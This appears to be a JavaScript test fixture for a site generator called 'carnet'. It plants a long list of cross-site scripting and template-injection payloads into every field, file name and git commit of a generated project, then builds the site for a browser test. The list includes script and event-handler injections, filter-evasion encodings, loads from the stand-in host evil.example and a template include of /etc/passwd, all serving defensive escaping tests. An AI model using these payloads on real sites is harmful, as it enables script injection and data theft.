// Texts that try to act, and a project that holds them wherever a text can stand: what payloads.test.mjs opens in a browser.
// Each calls `boom`, loads from another host or leaves the site when something takes it for more than a text.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { BASE, CARNET } from "./estate.mjs";

const FOREIGN = "//evil.example/x";

/** Elements, attributes and addresses that act; ways out of an attribute, a script, a comment, a template, a style; spellings that filters miss. */
export const PAYLOADS = [
  "<script>boom()</script>", "<SCRIPT>boom()</SCRIPT>", "<script src=//evil.example/x></script>", "<script\x0cfoo>boom()</script>",
  "<scr<script>ipt>boom()</scr</script>ipt>", "</script><script>boom()</script>", "</title><script>boom()</script>",
  "</textarea><script>boom()</script>", "</style><script>boom()</script>", "</noscript><script>boom()</script>", "</template><script>boom()</script>",
  "<script type=module>boom()</script>", "<script type=text/javascript>boom()//", "<svg><script>boom()</script></svg>",
  "<img src=x onerror=boom()>", "<img src=x onerror=\"boom()\">", "<IMG SRC=x ONERROR=boom()>", "<img/src=x/onerror=boom()>", "<img src=x:x onerror=boom()//",
  "<image src=x onerror=boom()>", "<svg onload=boom()>", "<svg/onload=boom()>", "<svg><animate onbegin=boom() attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:boom()\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=boom()>#x\">",
  "<svg><set attributeName=href to=javascript:boom()>", "<svg><foreignObject><img src=x onerror=boom()></foreignObject></svg>",
  "<body onload=boom()>", "<body onpageshow=boom()>", "<iframe src=\"javascript:boom()\">", "<iframe srcdoc=\"<script>parent.boom()</script>\">",
  `<iframe src=${FOREIGN}>`, "<object data=\"javascript:boom()\">", "<embed src=\"javascript:boom()\">", `<link rel=stylesheet href=${FOREIGN}>`,
  "<meta http-equiv=refresh content=\"0;url=//evil.example/x\">", "<base href=//evil.example/>", "<style>@import '//evil.example/x';</style>",
  "<div style=\"background:url(//evil.example/x)\">x</div>", "<style>*{background:url(//evil.example/x)}</style>",
  "<input autofocus onfocus=boom()>", "<select autofocus onfocus=boom()>", "<details open ontoggle=boom()>x</details>", "<video><source onerror=boom()></video>",
  "<audio src=x onerror=boom()>", "<marquee onstart=boom()>x</marquee>", "<p onmouseover=boom()>x</p>", "<a href=javascript:boom()>x</a>",
  "<a href=\"java&#x09;script:boom()\">x</a>", "<a href=\"&#106;avascript:boom()\">x</a>", "<a href=\" javascript:boom()\">x</a>",
  "<a href=\"data:text/html,<script>boom()</script>\">x</a>", "<a href=vbscript:boom()>x</a>", "<form action=javascript:boom()><button>x</button></form>",
  "<button formaction=javascript:boom()>x</button>", "<math><mtext><img src=x onerror=boom()></mtext></math>",
  "<math><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=boom()&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=boom()>\">",
  "<template><script>boom()</script></template>", "<!--><img src=x onerror=boom()>-->", "<!-- --!><img src=x onerror=boom()> -->",
  "<![CDATA[><img src=x onerror=boom()>]]>", "<?xml-stylesheet href=\"javascript:boom()\"?>", "\"><img src=x onerror=boom()>", "'><img src=x onerror=boom()>",
  "\" onmouseover=boom() autofocus onfocus=boom() x=\"", "' onfocus=boom() autofocus x='", "` onerror=boom() x=`", "x\" style=\"animation:x\" onanimationstart=\"boom()",
  "javascript:boom()", "JaVaScRiPt:boom()", "java\tscript:boom()", "\u0001javascript:boom()", "javascript://%0aboom()", "data:text/html,<script>boom()</script>",
  "data:image/svg+xml,<svg onload=boom()>", "vbscript:boom()", "';boom();//", "\";boom();//", "\\\";boom();//", "\u2028boom()\u2029", "${boom()}", "`${boom()}`",
  "{{ boom() }}", "{% include \"/etc/passwd\" %}", "{{ config }}", "{{constructor.constructor('boom()')()}}", "[x](javascript:boom())", "![x](x\"onerror=\"boom())",
  "<javascript:boom()>", "[x]: javascript:boom()", "&lt;script&gt;boom()&lt;/script&gt;", "%3Cscript%3Eboom()%3C/script%3E", "\\x3cscript\\x3eboom()\\x3c/script\\x3e",
  "\\u003cscript\\u003eboom()", "+ADw-script+AD4-boom()+ADw-/script+AD4-", "<\u0000script>boom()</script>", "＜script＞boom()＜/script＞", "<x contenteditable onblur=boom() tabindex=1 id=x>x</x>",
];

/** Ids that are names of what every object of a script has. */
export const NAMES = ["constructor", "prototype", "tostring", "valueof", "hasownproperty", "watch", "length"];

/** So many payloads stand in one text, each on its own line where lines are kept. */
export const TOGETHER = 20;

const quoted = (value) => JSON.stringify(value); // JSON is YAML.

/** A value of a field as its schema describes it, with the text wherever one may stand. */
function filled(schema, text) {
  if (schema.anyOf) return filled(schema.anyOf.find((one) => one.type === "array") ?? schema.anyOf.find((one) => one.type) ?? schema.anyOf[0], text);
  if (schema.type === "array") return [filled(schema.items, text)];
  if (schema.type === "object") return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, one]) => [key, filled(one, text)]));
  return text;
}

const countLeaves = (value) => (value !== null && typeof value === "object" ? Object.values(value).reduce((sum, one) => sum + countLeaves(one), 0) : 1);

/** Markdown with the text in every place that it has. */
const markdown = (text) => {
  const line = text.replaceAll("\n", " ");
  return `---
title: ${quoted(line)}
description: ${quoted(line)}
tags: [${quoted(line)}]
aliases: [${quoted(line)}]
steps: true
owner: ${quoted(line)}
applies_to: [${quoted(line)}]
---
## ${line}

${line}

1. ${line}
   - [ ] ${line}

| ${line.replaceAll("|", "\\|")} | b |
|---|---|
| ${line.replaceAll("|", "\\|")} | \`${line}\` |

> [!WARNING]
> ${line}

[${line}](https://intranet.example/?q=${encodeURIComponent(line)}) [lien](<${line}> "${line.replaceAll('"', "'")}") ![${line}](<${line}>)
[renvoi][r] [[${line}]] [[constructor|${line}]] <${line}> {{ ${line} }} note[^1]

[r]: <${line}> '${line.replaceAll("'", "’")}'
[^1]: ${line}

\`\`\`${line.replaceAll("`", "")}
${text}
\`\`\`

\`\`\`bash title="${line.replaceAll('"', "'").replaceAll("`", "")}"
${text}
\`\`\`

${text}
`;
};

/** Makes and builds the project; `sinks` are the places of texts that it fills, `pages` the addresses of its site. */
export function hostile() {
  const top = mkdtempSync(join(tmpdir(), "carnet-hostile-"));
  const root = join(top, "project"), folder = join(top, "site");
  const sinks = new Set();
  const write = (path, text) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  };
  const git = (author, ...words) => execFileSync("git", words, {
    cwd: root,
    stdio: ["ignore", "ignore", "pipe"],
    env: {
      ...process.env, GIT_CONFIG_GLOBAL: "/dev/null", GIT_AUTHOR_DATE: "2026-03-03T09:00:00+01:00", GIT_COMMITTER_DATE: "2026-03-03T09:00:00+01:00",
      GIT_AUTHOR_NAME: author, GIT_COMMITTER_NAME: author, GIT_AUTHOR_EMAIL: `${author}@x`, GIT_COMMITTER_EMAIL: "x@corp.example",
    },
  });
  const carnet = (...words) => execFileSync(CARNET, ["--root", root, ...words], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"], maxBuffer: 1e9 });
  write("carnet.yaml", `title: ${quoted(PAYLOADS[0] + PAYLOADS[14])}\nas_of: 2026-11-20\n`);
  git("x", "init", "-q", "-b", "main");
  const kinds = JSON.parse(carnet("schema"));
  carnet("schema", "--write");
  const settings = JSON.parse(readFileSync(join(root, ".vscode/settings.json"), "utf8"))["yaml.schemas"];
  const folders = new Map(Object.entries(settings).map(([path, patterns]) => [/(\w[\w-]*)\.json$/.exec(path)[1], /^inventory\/([\w-]+)\//.exec(patterns[0])?.[1]]));
  const groups = [];
  for (let from = 0; from < PAYLOADS.length; from += TOGETHER) groups.push(PAYLOADS.slice(from, from + TOGETHER).join("\n"));
  groups.forEach((text, number) => {
    for (const [kind, schema] of Object.entries(kinds)) {
      if (!folders.get(kind)) continue;
      const fields = Object.entries(schema.definitions.record.properties).filter(([key]) => key !== "id" && key !== "audience");
      const record = Object.fromEntries(fields.map(([key, one]) => [key, filled(one, text)]));
      write(`inventory/${folders.get(kind)}/p-${number}.yaml`, quoted({ id: `${kind}-${number}`, ...record }));
      for (const [key, value] of Object.entries(record)) for (let leaf = countLeaves(value); leaf--;) sinks.add(`${kind}.${key}.${leaf}`);
    }
    const name = text.replaceAll("\n", " ");
    // These are understood, so that what leads to a record shows its name.
    write(`inventory/sites/lieu-${number}.yaml`, quoted({ id: `lieu-${number}`, name }));
    write(`inventory/people/nom-${number}.yaml`, quoted({ id: `nom-${number}`, name }));
    write(`inventory/assets/poste-${number}.yaml`, quoted({ id: `poste-${number}`, name, type: "desktop", status: "in-service", site: `lieu-${number}`, user: `nom-${number}`, ip: ["192.0.2.7"] }));
    write(`inventory/tickets/appel-${number}.yaml`, quoted({ id: `appel-${number}`, title: name, type: "incident", status: "open", opened: "2026-11-01", requester: `nom-${number}`, assets: [`poste-${number}`] }));
    // A NUL makes a file no text.
    const typed = text.replaceAll("\0", "");
    write(`procedures/essai/geste-${number}.md`, markdown(typed));
    write(`content/notes/page-${number}.md`, markdown(typed));
    write(`content/notes/${name.replaceAll(/[/\0\n\t]/g, "_").slice(0, 60)}-${number}.txt`, text);
    git(name.replaceAll(/[<>\n\0]/g, "_"), "add", "-A");
    git(name.replaceAll(/[\n\0]/g, " "), "commit", "-q", "-m", `${name.replaceAll("\0", "")}\n\n${text.replaceAll("\0", "")}\n\nCo-authored-by: ${name.replaceAll(/[<>\0]/g, "_")} <x@corp.example>`);
    git("x", "tag", "-a", `v${number}`, "-m", text.replaceAll("\0", ""));
  });
  for (const place of ["title", "description", "tags", "aliases", "owner", "applies_to", "heading", "paragraph", "list", "task", "table head", "table cell",
    "inline code", "callout", "link text", "link address", "link title", "image text", "image address", "reference", "reference title", "wiki link",
    "wiki link's text", "autolink", "placeholder", "footnote", "fence's language", "fence", "fence's title", "raw block"]) sinks.add(`procedure: ${place}`).add(`page: ${place}`);
  for (const place of ["author", "author's address", "subject", "body", "co-author", "tag message", "old value", "new value", "path"]) sinks.add(`commit: ${place}`);
  sinks.add("site title").add("file name").add("attachment");
  NAMES.forEach((id) => write(`inventory/assets/${id}.yaml`, quoted({ id, name: id, type: "server", status: "in-service" })));
  // Every line is changed once more, so that logs show old values beside new ones.
  groups.forEach((text, number) => write(`inventory/sites/lieu-${number}.yaml`, quoted({ id: `lieu-${number}`, name: `${text.replaceAll("\n", " ")} bis`, address: text })));
  git("x", "add", "-A");
  git("x", "commit", "-q", "-m", "bis");
  // Hardly a value is right: the findings are many, and the site is published all the same.
  try {
    carnet("build", "--keep-going", "--out", folder, "--base-url", `http://127.0.0.1${BASE}`);
  } catch (failure) {
    if (failure.status !== 1) throw failure;
  }
  return { folder, sinks };
}
